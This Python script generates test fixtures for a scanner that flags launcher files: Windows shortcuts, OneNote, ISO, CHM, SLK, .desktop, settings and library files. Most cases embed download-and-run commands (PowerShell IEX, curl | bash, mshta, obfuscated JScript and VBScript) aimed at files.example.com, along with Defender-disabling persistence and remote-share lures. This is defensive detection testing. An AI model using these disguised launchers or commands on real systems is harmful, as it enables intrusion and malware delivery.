#!/usr/bin/python3
"""Write the cases of files that run or start something (checks/program.c).

Nothing in them does anything: the programs are headers without code, the
commands fetch from example.com and run what is not there. Usage:
tests/cases/make_program.py [NAME…]
"""

import base64
import importlib.util
import pathlib
import struct
import sys

HERE = pathlib.Path(__file__).resolve().parent
SPEC = importlib.util.spec_from_file_location("make_cases",
                                              HERE / "make-cases.py")
base = importlib.util.module_from_spec(SPEC)
SPEC.loader.exec_module(base)
base.CASES.clear()
case, with_file = base.case, base.with_file
malware, suspicious = base.malware, base.suspicious

LINK_CLASS = bytes.fromhex("0114020000000000c000000000000046")


# --- files -------------------------------------------------------------------

def string_data(text):
    return struct.pack("<H", len(text)) + text.encode("utf-16-le")


def local_info(path):
    """LinkInfo of a file on this machine's disk."""
    volume = struct.pack("<IIII", 17, 3, 0x1234, 16) + b"\0"
    base_path = path.encode() + b"\0"
    start = 28 + len(volume)
    suffix = start + len(base_path)
    return struct.pack("<IIIIIII", suffix + 1, 28, 1, 28, start, 0,
                       suffix) + volume + base_path + b"\0"


def network_info(share, suffix):
    """LinkInfo of a file on another machine."""
    name = share.encode() + b"\0"
    link = struct.pack("<IIIII", 20 + len(name), 2, 20, 0, 0x20000) + name
    end = suffix.encode() + b"\0"
    return struct.pack("<IIIIIII", 28 + len(link) + len(end), 28, 2, 0, 0, 28,
                       28 + len(link)) + link + end


def item_list(*names):
    """An item list that leads to names[0] (a volume), then to the rest."""
    items = struct.pack("<HBB", 20, 0x1f, 0x50) + bytes.fromhex(
        "e04fd020ea3a6910a2d808002b30309d")
    items += struct.pack("<HB", 25, 0x2f) + names[0].encode().ljust(22, b"\0")
    for name in names[1:]:
        short = (name.upper()[:8] + "\0").encode()
        short += b"\0" * (len(short) % 2)
        wide = (name + "\0").encode("utf-16-le")
        block = struct.pack("<HHIIIH", 20 + len(wide) + 2, 3, 0xbeef0004, 0, 0,
                            0) + b"\0\0" + wide
        block += struct.pack("<H", 14 + len(short))
        body = struct.pack("<BBIIH", 0x32, 0, 0, 0, 0x20) + short + block
        items += struct.pack("<H", 2 + len(body)) + body
    items += b"\0\0"
    return struct.pack("<H", len(items)) + items


def lnk(target=None, arguments=None, icon=None, items=None, info=None,
        environment=None, folder=None, show=1, overlay=b""):
    flags, body = 0x80, b""
    if items:
        flags |= 1
        body += item_list(*items)
    if target:
        info = local_info(target)
    if info:
        flags |= 2
        body += info
    for bit, text in ((0x10, folder), (0x20, arguments), (0x40, icon)):
        if text is not None:
            flags |= bit
            body += string_data(text)
    if environment:
        flags |= 0x200
        body += struct.pack("<II", 0x314, 0xa0000001) \
            + environment.encode().ljust(260, b"\0") \
            + environment.encode("utf-16-le").ljust(520, b"\0")
    header = struct.pack("<I16sIIQQQIIIHHII", 0x4c, LINK_CLASS, flags, 0x20, 0,
                         0, 0, 0, 0, show, 0, 0, 0, 0)
    return header + body + bytes(4) + overlay


def onenote(*files, names=()):
    """A section with the given files, as stores keep them."""
    out = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(1008)
    for name in names:
        wide = (name + "\0").encode("utf-16-le")
        out += struct.pack("<I", len(wide)) + wide + bytes(6)
    for data in files:
        out += bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") \
            + struct.pack("<QIQ", len(data), 0, 0) + data
        out += bytes(-len(data) % 8) + bytes.fromhex(
            "22a7fb71790f0b4abb13899256426b24")
    return out


def iso(*members):
    """An ISO 9660 image with the given files in its root."""
    def both(n, size=4):
        return n.to_bytes(size, "little") + n.to_bytes(size, "big")

    def record(name, extent, size, flags=0):
        body = (b"\0" + both(extent) + both(size) + bytes([124, 1, 2, 3, 4, 6])
                + bytes([0, flags, 0, 0]) + both(1, 2) + bytes([len(name)])
                + name)
        body += bytes(1 - len(body) % 2)
        return bytes([len(body) + 1]) + body

    def sector(data=b""):
        return data.ljust(-(-len(data) // 2048) * 2048 or 2048, b"\0")

    root = record(b"\0", 21, 2048, 2) + record(b"\1", 21, 2048, 2)
    files, at = b"", 22
    for name, data in members:
        root += record(name.upper().encode() + b";1", at, len(data))
        files += sector(data)
        at = 22 + len(files) // 2048
    first = bytearray(sector(b"\1CD001\1"))
    first[40:72] = b"PLANS".ljust(32)
    first[80:88], first[120:128] = both(at), both(1, 2) * 2
    first[128:132], first[132:140] = both(2048, 2), both(10)
    first[140:144] = (19).to_bytes(4, "little")
    first[148:152] = (20).to_bytes(4, "big")
    first[156:190] = record(b"\0", 21, 2048, 2)
    first[190:813], first[881] = b" " * 623, 1
    tables = [sector(struct.pack(order + "BBIH", 1, 0, 21, 1) + b"\0\0")
              for order in "<>"]
    return (bytes(16 * 2048) + bytes(first) + sector(b"\xffCD001\1")
            + sector() + tables[0] + tables[1] + sector(root) + files)


def encint(n):
    out = [n & 0x7f]
    while n > 0x7f:
        n >>= 7
        out.insert(0, n & 0x7f | 0x80)
    return bytes(out)


def lzx_stored(data):
    """One frame of LZX: a block that is not compressed."""
    bits = 3 << 28 | len(data) << 4		# no E8, type 3, size, padding
    return (struct.pack("<HH", bits >> 16, bits & 0xffff)
            + struct.pack("<III", 1, 1, 1) + data + bytes(len(data) % 2))


def chm(*files):
    """Help whose files (32 kB together) are in one compressed interval."""
    data = b"".join(content for _, content in files)
    frame = lzx_stored(data)
    control = struct.pack("<I4sIIIII", 6, b"LZXC", 2, 2, 2, 1, 0)
    resets = struct.pack("<IIIIQQQQ", 2, 1, 8, 0x28, len(data), len(frame),
                         0x8000, 0)
    store = "::DataSpace/Storage/MSCompressed/"
    own = [(store + "Content", frame), (store + "ControlData", control),
           (store + "Transform/{7FC28940-9D31-11D0-9B27-00A0C91E9C7C}/"
            "InstanceData/ResetTable", resets)]
    entries, at = b"", 0
    for name, content in own:
        entries += (encint(len(name)) + name.encode() + b"\0" + encint(at)
                    + encint(len(content)))
        at += len(content)
    at = 0
    for name, content in files:
        entries += (encint(len(name)) + name.encode() + b"\1" + encint(at)
                    + encint(len(content)))
        at += len(content)
    chunk = 4096
    listing = (b"PMGL" + struct.pack("<IIii", chunk - 20 - len(entries), 0,
                                     -1, -1) + entries).ljust(chunk, b"\0")
    directory = (b"ITSP" + struct.pack("<IIIIIIiIIiI", 1, 0x54, 10, chunk, 2,
                                       1, -1, 0, 0, -1, 1)
                 ).ljust(0x54, b"\0") + listing
    header = (b"ITSF" + struct.pack("<IIIII", 3, 0x60, 1, 0, 0x409)
              + bytes(32) + struct.pack("<QQQQQ", 0x60, 0, 0x60,
                                        len(directory),
                                        0x60 + len(directory)))
    return header + directory + b"".join(content for _, content in own)


def encoded_command(text):
    return base64.b64encode(text.encode("utf-16-le")).decode()


FETCH = ("IEX (New-Object Net.WebClient).DownloadString("
         "'http://files.example.com/a.ps1')")


# --- shortcuts -----------------------------------------------------------------

@case
def shortcut_interpreter():
    """A shortcut with the picture of a PDF file that fetches a program."""
    link = lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
               "-w hidden -ep bypass -c \"" + FETCH + "\"",
               r"C:\Program Files\Adobe\AcroRd32.exe", show=7)
    return (with_file("Invoice.lnk", link), malware(
        "SHORTCUT_RUNS_INTERPRETER", "SHORTCUT_DISGUISED_ICON",
        "SCRIPT_DOWNLOADS_AND_RUNS", "SCRIPT_HIDES", "SHORTCUT_ATTACHMENT"))


@case
def shortcut_items_only():
    """The target stands in the item list alone, in pieces."""
    link = lnk(items=("C:\\", "Windows", "System32", "cmd.exe"),
               arguments="/c start /min c^u^r^l -o a.exe "
                         "http://files.example.com/a.exe & a.exe")
    return (with_file("Scan.lnk", link), malware(
        "SHORTCUT_RUNS_INTERPRETER", "SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def shortcut_environment():
    """The target stands in the environment block alone."""
    link = lnk(environment="%windir%\\System32\\mshta.exe",
               arguments="http://files.example.com/a.hta",
               icon="%SystemRoot%\\System32\\imageres.dll")
    return (with_file("Plan.lnk", link), malware(
        "SHORTCUT_RUNS_INTERPRETER", "SHORTCUT_DISGUISED_ICON",
        "SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def shortcut_padded():
    """White space pushes the arguments out of the dialog."""
    link = lnk(r"C:\Windows\System32\rundll32.exe",
               " " * 300 + "data\\a.dll,Start")
    return (with_file("Plan.lnk", link),
            malware("SHORTCUT_HIDDEN_ARGUMENTS", "SHORTCUT_RUNS_INTERPRETER"))


@case
def shortcut_encoded():
    """The command is encoded for PowerShell."""
    link = lnk(r"C:\Windows\System32\cmd.exe", "/c powershell -enc "
               + encoded_command(FETCH))
    return (with_file("Plan.lnk", link), malware(
        "SHORTCUT_RUNS_INTERPRETER", "SCRIPT_DOWNLOADS_AND_RUNS",
        "SCRIPT_ENCODED"))


@case
def shortcut_coded():
    """A shortcut as a certificate, for a command to decode."""
    link = lnk(r"C:\Windows\System32\cmd.exe", "/c " + "x" * 100)
    text = (b"-----BEGIN CERTIFICATE-----\r\n" + base64.encodebytes(link)
            + b"-----END CERTIFICATE-----\r\n")
    return (with_file("Plan.txt", text, "text/plain"),
            malware("SHORTCUT_RUNS_INTERPRETER"))


@case
def shortcut_appended():
    """A program stands behind the shortcut."""
    link = lnk(r"C:\Windows\System32\cmd.exe", "/c findstr x a.lnk > b.exe",
               overlay=base.program(b"behind"))
    return (with_file("Plan.lnk", link), malware(
        "SHORTCUT_APPENDED_DATA", parts=[
            base.part("2/appended data",
                      "application/vnd.microsoft.portable-executable")]))


@case
def shortcut_remote_program():
    """The target lies on another machine."""
    link = lnk(info=network_info(r"\\203.0.113.9\share", r"docs\view.exe"))
    return (with_file("View.lnk", link), malware("SHORTCUT_REMOTE_PROGRAM"))


@case
def shortcut_remote_icon():
    """Showing the shortcut logs in elsewhere."""
    link = lnk(r"C:\Users\anna\notes.txt",
               icon=r"\\203.0.113.9\share\a.ico")
    return (with_file("Notes.lnk", link),
            suspicious("SHORTCUT_REMOTE_ICON", "SHORTCUT_ATTACHMENT"))


@case
def shortcut_control():
    """A shortcut to a document on a share: worth a word, no more."""
    link = lnk(info=network_info(r"\\files\team", r"plans\2024.docx"),
               icon=r"C:\Program Files\Office\WINWORD.EXE")
    return (with_file("Plan.lnk", link), suspicious(
        "SHORTCUT_ATTACHMENT", "SHORTCUT_REMOTE_TARGET",
        absent=["SHORTCUT_RUNS_INTERPRETER", "SHORTCUT_DISGUISED_ICON",
                "SHORTCUT_REMOTE_PROGRAM"]))


@case
def shortcut_local_control():
    """A shortcut to an ordinary program, with its own picture."""
    link = lnk(r"C:\Program Files\Example\example.exe", "--open plan",
               r"C:\Program Files\Example\example.exe",
               folder=r"C:\Users\anna")
    return (with_file("Example.lnk", link), dict(
        verdict="suspicious", action="flag", only=["SHORTCUT_ATTACHMENT"]))


@case
def internet_shortcut_remote():
    """An Internet shortcut that starts a program elsewhere."""
    return (with_file("Plan.url", b"[InternetShortcut]\r\nURL=file://"
                      b"203.0.113.9@80/share/plan.cpl\r\nIconFile=\\\\"
                      b"203.0.113.9\\share\\a.ico\r\n"),
            malware("SHORTCUT_REMOTE_PROGRAM", "SHORTCUT_REMOTE_ICON"))


@case
def internet_shortcut_control():
    """One to a web page."""
    return (with_file("News.url", b"[InternetShortcut]\r\n"
                      b"URL=https://www.example.org/news\r\n"),
            dict(verdict="suspicious", action="flag",
                 only=["SHORTCUT_ATTACHMENT"]))


@case
def desktop_entry_command():
    """A Linux desktop entry that fetches and runs."""
    return (with_file("Plan.desktop", b"[Desktop Entry]\nType=Application\n"
                      b"Name=Plan.pdf\nIcon=application-pdf\nExec=bash -c "
                      b"\"curl http://files.example.com/a | bash\"\n"),
            malware("SHORTCUT_RUNS_INTERPRETER",
                    "SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def settings_shortcut():
    """A settings shortcut that starts a program."""
    return (with_file("Plan.SettingContent-ms", b'<?xml version="1.0" '
                      b'encoding="UTF-8"?><PCSettings><SearchableContent '
                      b'xmlns="http://schemas.microsoft.com/Search/2013/'
                      b'SettingContent"><ApplicationInformation><DeepLink>'
                      b'%windir%\\system32\\cmd.exe /c calc</DeepLink>'
                      b'</ApplicationInformation></SearchableContent>'
                      b'</PCSettings>'),
            malware("SETTINGS_SHORTCUT", "SHORTCUT_RUNS_INTERPRETER"))


@case
def settings_shortcut_control():
    """One that opens a page of the settings."""
    return (with_file("Sound.SettingContent-ms", b'<?xml version="1.0" '
                      b'encoding="UTF-8"?><PCSettings><SearchableContent '
                      b'xmlns="http://schemas.microsoft.com/Search/2013/'
                      b'SettingContent"><ApplicationInformation><DeepLink>'
                      b'ms-settings:sound</DeepLink>'
                      b'</ApplicationInformation></SearchableContent>'
                      b'</PCSettings>'),
            suspicious("SHORTCUT_ATTACHMENT", absent=["SETTINGS_SHORTCUT"]))


LIBRARY = (b'<?xml version="1.0" encoding="UTF-8"?><libraryDescription '
           b'xmlns="http://schemas.microsoft.com/windows/2009/library">'
           b'<searchConnectorDescriptionList><searchConnectorDescription>'
           b'<simpleLocation><url>%s</url></simpleLocation>'
           b'</searchConnectorDescription></searchConnectorDescriptionList>'
           b'</libraryDescription>')


@case
def search_connector():
    """A library that shows another machine's files."""
    return (with_file("Plans.library-ms", LIBRARY
                      % b"\\\\203.0.113.9@80\\DavWWWRoot\\plans"),
            malware("SEARCH_CONNECTOR"))


@case
def search_connector_control():
    """A library of a folder on this machine."""
    return (with_file("Plans.library-ms", LIBRARY % b"C:\\plans"),
            suspicious("SHORTCUT_ATTACHMENT", absent=["SEARCH_CONNECTOR"]))


@case
def rdp_gives_access():
    """A remote desktop file that opens this machine to another one."""
    return (with_file("Meeting.rdp", "\ufefffull address:s:desk.example.com\r\n"
                      "drivestoredirect:s:*\r\nredirectclipboard:i:1\r\n"
                      "remoteapplicationmode:i:1\r\n"
                      "remoteapplicationprogram:s:||Meeting\r\n"
                      .encode("utf-16-le")),
            suspicious("RDP_FILE", "RDP_GIVES_ACCESS"))


@case
def rdp_control():
    """One to a machine of the office."""
    return (with_file("Office.rdp", b"screen mode id:i:2\r\nfull address:s:"
                      b"ws-17\r\ndrivestoredirect:s:*\r\n"),
            suspicious("RDP_FILE", absent=["RDP_GIVES_ACCESS"]))


@case
def installer_remote():
    """The description of a program that comes from elsewhere."""
    return (with_file("Viewer.appinstaller", b'<?xml version="1.0"?>'
                      b'<AppInstaller Uri="https://files.example.com/a.app'
                      b'installer" Version="1.0.0.0" xmlns="http://schemas.'
                      b'microsoft.com/appx/appinstaller/2018"><MainPackage '
                      b'Uri="https://files.example.com/a.msix"/>'
                      b'</AppInstaller>'),
            suspicious("INSTALLER_REMOTE"))


@case
def console_script():
    """A management console with script in it."""
    return (with_file("Users.msc", b'<?xml version="1.0"?><MMC_ConsoleFile '
                      b'ConsoleVersion="3.0"><StringTable><String>res://apds'
                      b'.dll/redirect.html?target=javascript:eval(external.'
                      b'Document)</String></StringTable></MMC_ConsoleFile>'),
            malware("CONSOLE_SCRIPT"))


@case
def console_control():
    """A console of snap-ins."""
    return (with_file("Users.msc", b'<?xml version="1.0"?><MMC_ConsoleFile '
                      b'ConsoleVersion="3.0"><StringTable><String>Local users'
                      b'</String></StringTable></MMC_ConsoleFile>'),
            suspicious("SCRIPT_ATTACHMENT", absent=["CONSOLE_SCRIPT"]))


@case
def sheet_command():
    """A table of text with a formula that starts a program."""
    return (with_file("Plan.slk", b"ID;P\r\nC;X1;Y1;K0;EMSEXCEL|'\\..\\..\\..\\"
                      b"Windows\\System32\\cmd.exe /c calc'!''\r\nE\r\n"),
            malware("SHEET_RUNS_COMMAND"))


@case
def sheet_macro():
    """One with a macro that runs by itself and starts a program."""
    return (with_file("Plan.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"
                      b"C;X1;Y1;ECALL(\"shell32\",\"ShellExecuteA\",\"JCJ\",0,"
                      b"\"cmd\",0)\r\nE\r\n"),
            malware("SHEET_RUNS_COMMAND"))


@case
def sheet_auto_macro():
    """One whose macro only says hello."""
    return (with_file("Plan.slk", b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"
                      b"C;X1;Y1;EALERT(\"Hello\")\r\nE\r\n"),
            suspicious("SHEET_AUTO_MACRO", absent=["SHEET_RUNS_COMMAND"]))


@case
def sheet_control():
    """A table with numbers and a sum."""
    return (with_file("Sums.slk", b"ID;PWXL;N;E\r\nP;PGeneral\r\nC;Y1;X1;K1"
                      b"\r\nC;Y2;X1;K2\r\nC;Y3;X1;K3;ESUM(R1C1:R2C1)\r\nE\r\n"),
            base.CLEAN)


@case
def sheet_fetches():
    """A web query."""
    return (with_file("Rates.iqy", b"WEB\r\n1\r\nhttp://files.example.com/a\r\n"
                      b"\r\nSelection=AllTables\r\n"),
            suspicious("SHEET_FETCHES"))


@case
def terminal_command():
    """Settings of macOS' terminal with a command."""
    return (with_file("Plan.terminal", b'<?xml version="1.0"?><plist version='
                      b'"1.0"><dict><key>CommandString</key><string>curl '
                      b'http://files.example.com/a | bash</string></dict>'
                      b'</plist>'),
            malware("SETTINGS_SHORTCUT", "SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def desktop_entry_control():
    """A Linux desktop entry of a program in Python."""
    return (with_file("notes.desktop", b"[Desktop Entry]\nType=Application\n"
                      b"Name=Notes\nExec=env LANG=C python3 /usr/share/notes/"
                      b"notes.py %U\n"),
            dict(verdict="suspicious", action="flag",
                 only=["SHORTCUT_ATTACHMENT"]))


@case
def link_opens_handler():
    """A link that shows another machine's files as if they were here."""
    return (base.with_html('<a href="search-ms:query=plan&amp;crumb=location:'
                           '\\\\203.0.113.9@80\\plans&amp;displayname=Plans">'
                           'Plans</a>'), malware("LINK_OPENS_HANDLER"))


HELP_COMMAND = (b'<html><object id=x classid="clsid:adb880a6-d8ff-11cf-9377-'
                b'00aa003b7a11"><param name="Command" value="ShortCut"><param '
                b'name="Item1" value=",mshta.exe,http://files.example.com/a">'
                b'</object><script>x.Click();</script></html>')


@case
def help_command():
    """A help file with a page that starts a program."""
    return (with_file("Plan.chm", chm(("/plan.html", HELP_COMMAND))),
            malware("CONSOLE_SCRIPT", "SCRIPT_DOWNLOADS_AND_RUNS", parts=[
                base.part("2/plan.html", "text/html")]))


@case
def help_control():
    """A help file of pages."""
    return (with_file("Plan.chm", chm(
        ("/plan.html", b"<html><body><a href='b.html'>b</a></body></html>"),
        ("/b.html", b"<html><body>Text</body></html>"))),
            suspicious("EXECUTABLE_ATTACHMENT", absent=["CONSOLE_SCRIPT"],
                       parts=[base.part("2/b.html", "text/html")]))


# --- notebooks, disk images --------------------------------------------------------

@case
def onenote_program():
    """A notebook with a script for Windows inside."""
    hta = b"<html><hta:application><script>1</script></html>"
    return (with_file("Invoice.one", onenote(base.png(), hta,
                                             names=["Open.hta"])),
            malware("ONENOTE_EMBEDDED_PROGRAM", parts=[
                base.part("2/Open.hta", "application/hta", "Open.hta")]))


@case
def onenote_batch():
    """One with a batch file whose text tells nothing."""
    return (with_file("Invoice.one", onenote(b"ping localhost\r\n",
                                             names=["Open.bat"])),
            malware("ONENOTE_EMBEDDED_PROGRAM"))


@case
def onenote_control():
    """A notebook with a document and a picture."""
    return (with_file("Notes.one", onenote(base.pdf(), base.png(),
                                           names=["minutes.pdf"])),
            dict(verdict="clean", action="allow",
                 symbols=["ONENOTE_EMBEDDED_FILE"],
                 only=["ONENOTE_EMBEDDED_FILE"]))


@case
def program_in_disk_image():
    """A disk image that brings a shortcut and the program that it starts."""
    return (with_file("Plan.iso", iso(
        ("plan.lnk", lnk(r"C:\Windows\System32\cmd.exe", "/c data.dll")),
        ("data.dll", base.program()))),
            malware("PROGRAM_IN_DISK_IMAGE", "SHORTCUT_RUNS_INTERPRETER"))


@case
def disk_image_control():
    """One with photographs."""
    return (with_file("Photos.iso", iso(
        ("a.png", base.png()), ("b.txt", b"by the sea\n"))),
            suspicious("DISK_IMAGE_ATTACHMENT",
                       absent=["PROGRAM_IN_DISK_IMAGE"]))


# --- scripts ---------------------------------------------------------------------------

@case
def script_downloads_and_runs():
    """JScript that fetches a program and starts it, in pieces."""
    return (with_file("Plan.js", b"""
var a = new ActiveXObject("MSX" + "ML2.XML" + "HTTP");
a.open("GET", "ht" + "tp://files.exam" + "ple.com/a.exe", false);
a.send();
var s = new ActiveXObject("ADO" + "DB.Stream");
s.Open(); s.Type = 1; s.Write(a.ResponseBody);
s.SaveToFile("a.exe", 2);
new ActiveXObject(String.fromCharCode(87, 83, 99, 114, 105, 112, 116, 46, 83,
    104, 101, 108, 108)).Run("a.exe");
"""), malware("SCRIPT_DOWNLOADS_AND_RUNS", "SCRIPT_ATTACHMENT"))


@case
def script_batch_variables():
    """A batch file that spells its commands out of variables."""
    return (with_file("Plan.bat", b"""@echo off
set a=pow
set b=ersh
set "c=ell"
%a%%b%%c% -w hidden -c "i^w^r http://files.example.com/a.exe -o a.exe"
%comspec:~-7,3% /c start a.exe
"""), malware("SCRIPT_DOWNLOADS_AND_RUNS", "SCRIPT_HIDES"))


@case
def script_vbs_reversed():
    """VBScript with its words written backwards."""
    return (with_file("Plan.vbs", b"""
Set w = CreateObject(StrReverse("llehS.tpircSW"))
w.Run StrReverse("'1sp.a/moc.elpmaxe.selif//:ptth' rwi | xei ssapyb pe- llehsrewop"), 0
"""), malware("SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def script_encoded():
    """Text of Microsoft's Script Encoder."""
    return (with_file("Plan.vbe", b"#@~^EQAAAA==\ttd?1DbwYchkl1w|CRI;xPEmaEpQYAAA==^#~@"),
            suspicious("SCRIPT_ENCODED"))


@case
def script_carries_program():
    """PowerShell with a program among its strings."""
    blob = base64.b64encode(base.program()).decode()
    return (with_file("Plan.ps1", ("$b = [Convert]::FromBase64String('%s')\r\n"
                                   "[Reflection.Assembly]::Load($b)\r\n"
                                   % blob).encode()),
            malware("SCRIPT_CARRIES_PROGRAM", "SCRIPT_INJECTS_CODE"))


@case
def script_disables():
    """A batch file that turns the virus scanner off, and stays."""
    return (with_file("Setup.cmd", b"@echo off\r\npowershell Set-MpPreference "
                      b"-DisableRealtimeMonitoring $true\r\nschtasks /create "
                      b"/tn a /tr a.exe /sc onlogon\r\n"),
            malware("SCRIPT_DISABLES_PROTECTION", "SCRIPT_PERSISTS"))


@case
def script_page_remote():
    """A page that runs as a program takes its script from elsewhere."""
    return (with_file("Plan.hta", b'<html><hta:application id=a><script src='
                      b'"http://files.example.com/a.js"></script></html>'),
            malware("SCRIPT_DOWNLOADS_AND_RUNS"))


@case
def script_downloads_in_source():
    """A build script among many files."""
    files = [("src/file%d.c" % n, b"int x%d;\n" % n) for n in range(24)]
    files.append(("build.cmd", b"@echo off\r\npowershell -Command Invoke-WebR"
                  b"equest https://example.org/tool.exe -OutFile tool.exe\r\n"
                  b"start tool.exe\r\n"))
    return (with_file("source.zip", base.archive(*files), "application/zip"),
            suspicious("SCRIPT_DOWNLOADS_IN_SOURCE",
                       absent=["SCRIPT_DOWNLOADS_AND_RUNS"]))


@case
def script_obfuscated():
    """A script of short pieces."""
    words = "+".join('"%s"' % c for c in "this is only a list of letters")
    return (with_file("Plan.js", ("var a = %s;\nWScript.Echo(a);\n" % words)
                      .encode()), suspicious("SCRIPT_OBFUSCATED"))


@case
def script_plain_control():
    """A colleague's script: suspicious by its kind, nothing more."""
    return (with_file("Rename.ps1", b"""
# Renames the photographs of a folder by their date.
param([string]$Folder)
Get-ChildItem $Folder -Filter *.jpg | ForEach-Object {
    $name = $_.LastWriteTime.ToString("yyyy-MM-dd-HHmmss") + ".jpg"
    Rename-Item $_.FullName $name
}
"""), dict(verdict="suspicious", action="flag", only=["SCRIPT_ATTACHMENT"]))


@case
def script_patch_control():
    """A patch and a report that quote what bad scripts do."""
    text = (b"$w = New-Object System.Net.WebClient\r\nInvoke-Expression $w."
            b"DownloadString('http://files.example.com/a.ps1')\r\nSet-MpPrefe"
            b"rence -DisableRealtimeMonitoring $true\r\n")
    return (base.mail("Findings", base.multipart(
        "mixed", base.text_part("Attached."),
        base.file_part("report.txt", text, "text/plain"),
        base.file_part("fix.patch", b"--- a/x.ps1\n+++ b/x.ps1\n+" + text,
                       "text/x-patch"))), dict(
        verdict="clean", action="allow", absent=[
            "SCRIPT_DOWNLOADS_AND_RUNS", "SCRIPT_DISABLES_PROTECTION"]))


@case
def script_source_control():
    """An installation script for developers opens in an editor."""
    return (with_file("install.sh", b"#!/bin/sh\nset -e\ncurl -fsSL "
                      b"https://example.org/tool.tar.gz | tar xz\n"
                      b"chmod +x tool\n", "text/x-sh"),
            dict(verdict="clean", action="allow",
                 symbols=["SCRIPT_DOWNLOADS"], only=["SCRIPT_DOWNLOADS"]))


if __name__ == "__main__":
    base.main(sys.argv[1:])
